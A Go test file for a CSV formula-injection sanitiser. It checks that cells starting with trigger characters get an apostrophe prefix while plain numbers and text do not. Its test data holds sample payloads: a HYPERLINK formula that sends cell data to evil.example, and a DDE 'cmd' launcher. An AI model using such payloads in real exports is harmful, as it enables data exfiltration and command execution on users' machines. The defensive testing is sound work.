package csvsafe

import (
	"bytes"
	"encoding/csv"
	"testing"
)

// TestCell: OWASP's trigger characters first, or after leading white
// space, are quoted; plain numbers and ordinary text are not.
func TestCell(t *testing.T) {
	t.Parallel()
	for _, c := range []struct{ in, want string }{
		{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, `'=HYPERLINK("http://evil.example/?x="&A1,"click")`},
		{"=1+1", "'=1+1"},
		{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"-2+3", "'-2+3"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"\tplain", "'\tplain"},
		{"\rplain", "'\rplain"},
		{"   =1+1", "'   =1+1"},
		{"\n@x", "'\n@x"},
		{"\u00a0+1+1", "'\u00a0+1+1"},
		{" - item", "' - item"},
		{"-", "'-"},
		{"+", "'+"},
		{"-1e5", "'-1e5"},
		{"-12.", "'-12."},
		{"-.5", "'-.5"},
		{"-1.234,56", "'-1.234,56"},
		// Plain numbers stay numbers.
		{"-12.50", "-12.50"},
		{"-1234,56", "-1234,56"},
		{"+3", "+3"},
		{"+5511999998888", "+5511999998888"},
		{" -7", " -7"},
		{"1234.56", "1234.56"},
		// Ordinary text.
		{"", ""},
		{"João da Conceição", "João da Conceição"},
		{"a=1", "a=1"},
		{"2026-03-10", "2026-03-10"},
		{"'=already", "'=already"},
		{"  spaced", "  spaced"},
	} {
		if got := Cell(c.in); got != c.want {
			t.Errorf("Cell(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

// TestWriter: the safe writer quotes every dangerous cell with either
// separator and leaves the caller's record alone; the raw one writes
// verbatim.
func TestWriter(t *testing.T) {
	t.Parallel()
	rec := []string{"=1+1", "ok", "-2+3", "-12.50", "a;b,c", "\t=1+1"}
	for _, sep := range []rune{',', ';'} {
		var buf bytes.Buffer
		w := NewWriter(&buf)
		w.Comma = sep
		if err := w.WriteAll([][]string{rec}); err != nil {
			t.Fatal(err)
		}
		if rec[0] != "=1+1" {
			t.Fatalf("the record was changed: %q", rec)
		}
		r := csv.NewReader(&buf)
		r.Comma = sep
		got, err := r.ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		want := []string{"'=1+1", "ok", "'-2+3", "-12.50", "a;b,c", "'\t=1+1"}
		if len(got) != 1 || len(got[0]) != len(want) {
			t.Fatalf("%q: %q", sep, got)
		}
		for i := range want {
			if got[0][i] != want[i] {
				t.Errorf("%q cell %d = %q, want %q", sep, i, got[0][i], want[i])
			}
		}

		buf.Reset()
		raw := NewRawWriter(&buf)
		raw.Comma = sep
		if err := raw.WriteAll([][]string{rec}); err != nil {
			t.Fatal(err)
		}
		r = csv.NewReader(&buf)
		r.Comma = sep
		got, err = r.ReadAll()
		if err != nil || !raw.Raw() {
			t.Fatal(err)
		}
		for i := range rec {
			if got[0][i] != rec[i] {
				t.Errorf("raw %q cell %d = %q, want %q", sep, i, got[0][i], rec[i])
			}
		}
	}
}
